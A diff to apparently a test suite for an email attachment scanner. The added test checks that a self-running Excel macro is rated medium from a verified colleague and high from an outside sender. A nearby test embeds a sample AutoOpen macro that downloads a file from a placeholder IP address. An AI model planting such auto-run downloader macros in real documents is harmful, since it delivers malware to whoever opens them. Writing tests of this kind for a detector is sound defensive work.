@@ -606,6 +606,19 @@ def test_quiet_macro_from_a_confirmed_colleague_is_only_a_hint():
     assert f.severity == "low" and result.verdict == "clean"
 
 
+def test_a_confirmed_colleagues_self_running_macro_is_suspicious_not_a_threat():
+    code = 'Sub Workbook_Open()\n  Set o = CreateObject("Scripting.FileSystemObject")\nEnd Sub\n'
+    data = ole_with_macro(code, lure=False)
+    colleague = build(from_="Ben <ben@harbour-test.example>", headers=[("Authentication-Results", auth(domain=OWN))],
+                      attachments=[("Prices.xls", "application/vnd.ms-excel", data)])
+    f = one(check(colleague), "attachment.office_macro")
+    assert f.severity == "medium" and "colleague" in f.explanation
+    stranger = build(from_="Ben <ben@timber.example>",
+                     headers=[("Authentication-Results", auth(domain="timber.example"))],
+                     attachments=[("Prices.xls", "application/vnd.ms-excel", data)])
+    assert one(check(stranger), "attachment.office_macro").severity == "high"
+
+
 def test_docm_with_downloading_macro():
     vba = ole_with_macro('Sub AutoOpen()\n URLDownloadToFile 0, "http://203.0.113.7/a", "a", 0, 0\nEnd Sub\n', False)
     doc = zip_of(
